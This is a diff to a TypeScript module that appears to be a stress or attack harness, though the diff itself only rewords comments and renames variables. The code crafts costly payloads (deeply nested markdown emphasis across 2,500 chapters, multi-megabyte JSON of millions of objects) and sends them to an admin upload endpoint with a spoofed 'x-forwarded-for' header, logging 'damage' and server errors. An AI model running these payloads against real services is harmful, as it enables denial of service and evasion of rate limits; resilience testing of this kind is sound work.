@@ -6,7 +6,7 @@ import type { Damage, Target } from './target';
 const MB = 1024 * 1024;
 const CHAPTERS = 2_500;
 
-/** 2,500 chapters whose text is nothing but emphasis that never ends. */
+/** Archive of 2,500 chapters whose text is nothing but emphasis that never ends. */
 function emphasis(): Promise<Buffer> {
   const dialogue = [{ speaker: 'Jesús', text: '*a **b _c __d '.repeat(150) }];
   const files = Array.from({ length: CHAPTERS }, (_, at) => {
@@ -26,7 +26,7 @@ const JSONS: Record<string, () => string> = {
   'millones de objetos': () => `{"playlistTitle":"Volumen 36","items":[${'{},'.repeat((5 * MB) / 3 - 100)}{}]}`,
 };
 
-/** Files that are costly to read, one after the other, as an administrator could send them. */
+/** Sends files that are costly to read, one after the other, as an administrator could. */
 export async function sendFiles({ url, tokens }: Target): Promise<Damage> {
   const damage: Damage = { sent: 0, figures: [], faults: [] };
   const send = async (words: string, call: string, name: string, content: Buffer | string) => {
@@ -34,11 +34,11 @@ export async function sendFiles({ url, tokens }: Target): Promise<Damage> {
     body.set('file', new File([content as BlobPart], name));
     const headers = { authorization: `Bearer ${tokens[0]}`, 'x-forwarded-for': addressNumber(50_000) };
     const started = performance.now();
-    const answer = await fetch(url + call, { method: 'POST', headers, body });
-    await answer.arrayBuffer();
+    const response = await fetch(url + call, { method: 'POST', headers, body });
+    await response.arrayBuffer();
     damage.sent += 1;
-    damage.figures.push(`${words}: ${answer.status} en ${((performance.now() - started) / 1000).toFixed(1)} s`);
-    if (answer.status >= 500) damage.faults.push(`${words} answered ${answer.status}`);
+    damage.figures.push(`${words}: ${response.status} en ${((performance.now() - started) / 1000).toFixed(1)} s`);
+    if (response.status >= 500) damage.faults.push(`${words} answered ${response.status}`);
   };
   for (const [words, make] of Object.entries(JSONS))
     await send(`JSON de 5 MB, ${words}`, '/api/admin/upload-playlist', 'a.json', make());
